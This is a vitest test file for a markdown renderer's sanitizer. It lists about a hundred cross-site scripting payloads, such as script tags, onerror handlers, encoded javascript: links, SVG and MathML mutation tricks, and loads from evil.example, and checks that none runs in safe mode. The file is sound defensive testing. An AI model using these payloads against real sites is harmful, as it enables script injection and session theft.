import {expect, test} from 'vitest';
import {renderMarkdown} from '../../../renderer/markdown/render-markdown.js';
import {liveScript, liveScriptInBody} from '../document/live-script.js';
import {transformed} from '../document/support.js';

/** Shapes of attacks; what counts is that nothing in the result can run. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" ',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<img src=`javascript:alert(1)`>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<a href="x" style="position:fixed;inset:0">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"; body{display:none}</style>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src="javascript:alert(1)"></audio>',
  '<body onload=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<template><script>alert(1)</script></template>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<b id="x" data-a="<script>">x</b>',
  '<div v-html="alert(1)" @click="alert(1)" :src="alert(1)">x</div>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<galley-hole data-hole="0"></galley-hole><script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](java&Tab;script&colon;alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](&#1;javascript:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](y)',
  '![x](y "\\"onerror=\\"alert(1)")',
  '[x](y "\\"><script>alert(1)</script>")',
  '[x](/"onmouseover="alert(1))',
  '```"><script>alert(1)</script>\nx\n```',
  '```js ["><script>alert(1)</script>]\nx\n```',
  '```js title="<script>alert(1)</script>"\nx\n```',
  '```html\n<script>alert(1)</script>\n```',
  '```js {1}\n</span></code></pre><script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`{lang="\\"><script>"}',
  '# <script>alert(1)</script>',
  '# x {onclick="alert(1)"}',
  '[x]{onclick="alert(1)" style="a" href="javascript:alert(1)"}',
  '**x**{onclick=alert(1) .a}',
  '[x](y){href="javascript:alert(1)" onclick=alert(1) style="a"}',
  '![x](y){onerror=alert(1) src="javascript:alert(1)"}',
  ':x{onclick="alert(1)"}',
  '::x{onclick="alert(1)" :onclick="1"}\n<script>alert(1)</script>\n::',
  '::script\nalert(1)\n::',
  ':iframe{src="javascript:alert(1)" srcdoc="<script>"}',
  '::base{href="//evil.example"}\n::',
  '::x{a="\\"><script>alert(1)</script>"}\n::',
  '::x\n---\nonclick: alert(1)\ndangerouslySetInnerHTML:\n  __html: <script>\n__proto__:\n  a: 1\n---\n::',
  '::x\n#__proto__\n<script>alert(1)</script>\n::',
  '::"><script>alert(1)</script>\n::',
  '{{ <script>alert(1)</script> }}',
  "{{ a || '<script>alert(1)</script>' }}",
  '| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  '[^"><script>]\n\n[^"><script>]: x',
  '- <script>\n- alert(1)\n- </script>',
  '<div>\n\n<script>\n\nalert(1)\n\n</script>\n\n</div>',
  '<p><b\n\nonclick=alert(1)>x',
  '<img src="x\n\n" onerror="alert(1)">',
  '> [!NOTE] <script>alert(1)</script>\n> <img src=x onerror=alert(1)>',
  '::: tip <script>alert(1)</script>\n<img src=x onerror=alert(1)>\n:::',
];

test.each(attacks)('safe content does not run scripts: %s', (attack) => {
  for (const parser of ['native', 'remark'] as const) {
    for (const around of [
      attack,
      `Text\n\n${attack}\n\nText`,
      `> ${attack.replaceAll('\n', '\n> ')}`,
      `::card\n${attack}\n::`,
    ]) {
      expect(liveScriptInBody(transformed(around, {markdown: {parser}}).body)).toEqual([]);
      expect(liveScript(renderMarkdown(around, {parser}))).toEqual([]);
      expect(
        liveScript(renderMarkdown(around, {parser, highlight: false, components: false, headingIds: false})),
      ).toEqual([]);
    }
  }
});

test('liveScript() finds event handlers, script addresses and script elements', () => {
  expect(liveScript('<p onclick="a"><a href=" java\nscript:b">c</a><script>d</script></p>')).toEqual([
    'p onClick',
    'a href= java\nscript:b',
    '<script>',
  ]);
});

test('safe content keeps harmless HTML', () => {
  const html =
    '<details open><summary>a</summary>\n<p align="center" class="b" id="c" data-d="e"><kbd>f</kbd> <a href="https://g.h" target="_blank" title="i">j</a><br><sub>k</sub> <abbr title="l">m</abbr></p>\n</details>\n';
  expect(renderMarkdown(html)).toEqual(
    html
      .replace('<br>', '<br />')
      .replace('open>', 'open="">')
      .replace(' align="center" class="b" id="c" data-d="e"', ' align="center" class="b" id="c" data-d="e"'),
  );
});

test('trusted content is not changed', () => {
  const html = '<script>alert(1)</script>\n<p onclick="a()" style="color: red">x</p>\n';
  expect(renderMarkdown(html, {html: 'trusted'})).toEqual(html);
  expect(transformed(html, {markdown: {html: 'trusted'}}).body.join('')).toEqual(
    '<script>alert(1)</script>\n<p onclick="a()" style="color: red">x</p>',
  );
});

test('names of Object.prototype are not attributes', () => {
  const text =
    '<b __proto__="a" constructor="b">c</b> [d]{constructor=f} **g**{constructor=h}\n\n::card{constructor="j"}\nk\n::\n';
  for (const html of ['safe', 'trusted'] as const) {
    const {document, body} = transformed(text, {markdown: {html}});
    expect(document.diagnostics.filter(({severity}) => severity === 'error')).toEqual([]);
    expect(body.map((piece) => (typeof piece === 'string' ? piece : piece.props))).toEqual([
      '<p><b>c</b> <span>d</span> <strong>g</strong></p>\n',
      {},
    ]);
  }
});
